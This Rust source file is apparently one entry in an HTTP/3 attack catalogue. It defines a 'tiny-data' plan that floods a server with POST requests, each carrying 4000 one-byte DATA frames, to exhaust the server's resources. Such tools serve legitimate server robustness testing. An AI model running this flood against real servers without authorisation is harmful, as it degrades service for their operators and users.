//! Content in DATA frames of one byte.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "tiny-data",
    labels: &["A81"],
    summary: "an upload in DATA frames of one byte each",
    victim: Victim::Server,
    make: || Box::new(tiny_data()),
};

fn tiny_data() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        if crowd::permitted(connection, progress, 1) == 0 {
            return;
        }
        // A new request in each turn, because unread content blocks at the stream's window.
        let id = http::request_stream(progress.streams);
        progress.streams += 1;
        let mut bytes = http::request(Method::Post, "/");
        for _ in 0..FRAMES {
            bytes.extend(http::frame(http::DATA, &[0]));
        }
        let last = bytes.chunks(1000).count() - 1;
        for (index, chunk) in bytes.chunks(1000).enumerate() {
            let offset = index as u64 * 1000;
            connection.push_bytes(http::stream(id, offset, chunk, index == last));
        }
    })
    .with_begin(crowd::preface)
}

/// DATA frames of one request.
const FRAMES: usize = 4000;
